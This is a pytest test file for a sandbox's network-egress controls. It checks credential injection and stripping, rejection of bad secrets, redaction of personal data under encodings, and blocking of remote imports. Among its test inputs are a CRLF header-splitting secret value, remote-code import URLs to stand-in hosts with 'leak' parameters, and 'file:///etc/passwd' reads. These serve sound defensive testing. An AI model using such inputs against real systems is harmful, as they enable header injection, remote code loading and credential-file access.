"""Programs that bring credentials of their own, owners whose secrets are no good, and what must not leave at all."""

import base64
import gzip
import textwrap

import brotli
import pytest
from tests.egress.attacker import PRELUDE
from tests.egress.world import SECRET
from tests.far_side.hostile import hostile

pytestmark = pytest.mark.anyio

KEY = SECRET.encode()
MINE = "attackers-own-key-1234"
AUTHS = {
    "bearer": {"kind": "bearer", "secret": "env:ALPHA_KEY"},
    "basic": {"kind": "basic", "username": "owner", "secret": "env:ALPHA_KEY"},
    "header": {"kind": "header", "name": "X-Api_Key", "secret": "env:ALPHA_KEY"},
    "query": {"kind": "query", "name": "key", "secret": "env:ALPHA_KEY"},
}


@pytest.fixture(scope="module")
async def alpha(authority):
    """A server of many names, one for each kind of credential."""
    names = [f"{name}.test" for name in (*AUTHS, "empty", "missing", "split", "short")]
    async with hostile(authority.server(*names, protocols=("http/1.1",))) as server:
        yield server


@pytest.fixture(scope="module")
async def world(world_of, api_at, alpha):
    """Gloveport with an API of each kind."""
    bad = {
        name: {"kind": "bearer", "secret": f"env:{name.upper()}_KEY"} for name in ("empty", "missing", "split", "short")
    }
    apis = {name: api_at(alpha.place.port, name=f"{name}.test", auth=[auth]) for name, auth in (AUTHS | bad).items()}
    environ = {"EMPTY_KEY": "", "SPLIT_KEY": "good-until-here\r\nX-Split: 1", "SHORT_KEY": "hunter2"}
    async with world_of(environ, api=apis) as opened:
        yield opened


@pytest.fixture
def run(world, alpha):
    """Run a hostile program, and tell what it was answered."""

    async def run(program: str) -> dict[str, str]:
        alpha.forget()
        return await world.value("python", PRELUDE + f"PORT = {alpha.place.port}\n" + textwrap.dedent(program))

    return run


async def test_what_a_program_says_of_itself_does_not_leave(run, alpha):
    """N5, W18: its own Authorization, Basic, header and key, encoded, spelt otherwise, or named by Connection."""
    said = await run(f"""
    mine = {MINE!r}
    own = [
        f"Authorization: Bearer {{mine}}", f"authorization: Basic {{mine}}", f"AUTHORIZATION: {{mine}}",
        f"Proxy-Authorization: {{mine}}",
        f"X-Api_Key: {{mine}}", f"x-api-key: {{mine}}", f"X_API_KEY: {{mine}}",
        "Connection: authorization, x-api_key, cookie", f"X-Forwarded-User: {{mine}}", f"Forwarded: for={{mine}}",
        f"X_Forwarded_For: {{mine}}",
    ]
    target = f"/x?a=1&key={{mine}}&k%65y={{mine}}&%6b%65%79={{mine}}&b=key&key"
    def at(name):
        return lambda: asked(direct(name, PORT), request(f"{{name}}:{{PORT}}", target, headers=own))

    together({{name: at(f"{{name}}.test") for name in ("bearer", "basic", "header", "query")}})
    """)
    assert set(said.values()) == {"200"}
    heard = {request.values("host")[0].partition(b".")[0].decode(): request for request in alpha.heard}
    pair = base64.b64encode(b"owner:" + KEY)
    assert heard["bearer"].values("authorization") == [b"Bearer " + KEY]
    assert heard["basic"].values("authorization") == [b"Basic " + pair]
    assert heard["header"].values("x-api_key") == [KEY]
    assert heard["query"].target == "/x?a=1&b=key&key=s3cr3t%2Falpha%2BVALUE%3D4711"
    for name, request in heard.items():
        lines = {line.partition(b":")[0]: line for line in request.head.split(b"\r\n")[1:] if MINE.encode() in line}
        assert set(lines) <= ({b"x-api_key", b"x-api-key", b"x_api_key"} if name != "header" else set()), name
    assert MINE not in heard["query"].target


async def test_a_secret_that_is_no_good_is_never_sent_and_never_told(run, world, alpha):
    """N5, T3, T4, W17: empty, missing, one that would split a head, one too short to be found again."""
    said = await run("""
    answers = {
        name: asked(direct(f"{name}.test", PORT), request(f"{name}.test:{PORT}"))
        for name in ("empty", "missing", "split", "short")
    }
    {name: [code_of(answer), answer.decode("latin-1")] for name, answer in answers.items()}
    """)
    assert {code for code, _ in said.values()} == {"502 secret_unavailable"}
    assert alpha.heard == []
    told = "".join(text for _, text in said.values())
    assert not [word for word in ("good-until", "X-Split", "hunter2", "_KEY", "env:") if word in told]
    written = world.written()
    assert not [word for word in (b"good-until", b"hunter2") if word in written]


async def test_what_shall_not_leave_does_not_leave_under_any_coding(world_of, alpha, authority):
    """N8, W19: in URL, header, body, under codings, in chunks of a byte; under an unknown coding nothing."""
    plain = ("Jane Doe", "jane@doe.test", "Falcon-9")
    async with hostile(authority.server("free.test", protocols=("http/1.1",))) as server:
        api = {
            "hosts": [f"free.test:{server.place.port}"],
            "addresses": [server.place.host],
            "ca_file": authority.ca_file,
        }
        bodies = {
            "plain": (b"", b"I am Jane Doe, jane@doe.test"),
            "gzip": (b"gzip", gzip.compress(b"I am Jane Doe")),
            "twice": (b"gzip, br", brotli.compress(gzip.compress(b"I am Jane Doe"))),
            "json": (b"", b'{"name": "\\u004aane Doe", "other": "JANE DOE"}'),
            "form": (b"", b"name=Jane+Doe&mail=jane%40doe.test&x=Jane%20Doe"),
            "unknown": (b"rot13", b"Wnar Qbr, Jane Doe"),
            "not-it": (b"gzip", b"Jane Doe"),
            "half": (b"gzip", gzip.compress(b"Jane Doe" * 9)[:-9]),
        }
        code = f"""
bodies = {bodies!r}
place, port = "free.test:{server.place.port}", {server.place.port}

def at(coding, body):
    return lambda: asked(direct("free.test", port), request(place, "/x?n=Jane%20Doe&m=jane@doe.test", "POST",
        ["Content-Encoding: " + coding.decode()] * bool(coding)
        + ["X-Name: Jane Doe", "Referer: /Jane+Doe", "X-Falcon-9: 1"], body))

def chunked(body):
    pieces = b"".join(b"1\\r\\n" + bytes([byte]) + b"\\r\\n" for byte in body) + b"0\\r\\n\\r\\n"
    head = request(place, "/x", "POST", ["Transfer-Encoding: chunked"])
    return lambda: asked(direct("free.test", port), head + pieces)

together({{name: at(*body) for name, body in bodies.items()}} | {{"chunked": chunked(b"I am Jane Doe.")}})
""".replace("\r\n", "\\r\\n")
        egress = {"redact": [*plain], "user_agent": "Nobody/1.0"}
        async with world_of(api={"free": api}, egress=egress) as world:
            said = await world.value("python", PRELUDE + code)
        received = bytes(server.received)
    refused = {name: said.pop(name) for name in ("unknown", "not-it", "half")}
    assert not [code for code in refused.values() if code[0] == "2"]
    assert set(said.values()) == {"200"}
    left = (
        b"Jane Doe",
        b"Jane+Doe",
        b"Jane%20Doe",
        b"JANE DOE",
        b"falcon-9",
        b"jane@doe",
        b"jane%40doe",
        b"Wnar",
        b"\\u004aane Doe",
    )
    assert [text for text in left if text in received] == [b"\\u004aane Doe"], "who wants to say it otherwise, can"
    assert {request.values("user-agent")[0] for request in server.heard} == {b"Nobody/1.0"}


async def test_no_code_comes_from_anywhere(run, world, alpha):
    """E8, N2, W7: remote imports, packages, workers and data with a granted host too; nothing is asked of anybody."""
    alpha.forget()
    result = await world.run(
        "typescript",
        f"""
        const specifiers = [
          "https://bearer.test:{alpha.place.port}/leak.ts?data=1", "http://bearer.test/leak.ts", "https://deno.land/std/x.ts",
          "https://esm.sh/left-pad?leak=DATA", "npm:left-pad", "jsr:@std/path", "https://raw.githubusercontent.com/x/y.ts",
          "file:///etc/passwd", "node:../../etc/passwd",
        ];
        const said: Record<string, string> = {{}};
        for (const specifier of specifiers) {{
          try {{
            await import(specifier);
            said[specifier] = "imported";
          }} catch (error) {{ said[specifier] = error.name; }}
        }}
        try {{
          await import("data:text/javascript,import 'https://bearer.test:{alpha.place.port}/nested.js'");
          said.nested = "imported";
        }} catch (error) {{ said.nested = error.name; }}
        said
        """,
    )
    assert result.status == "ok", (result.error, result.stderr.text)
    assert "imported" not in result.value.values()
    assert len(result.value) == 10
    assert alpha.heard == []
    assert result.requests_total == 0
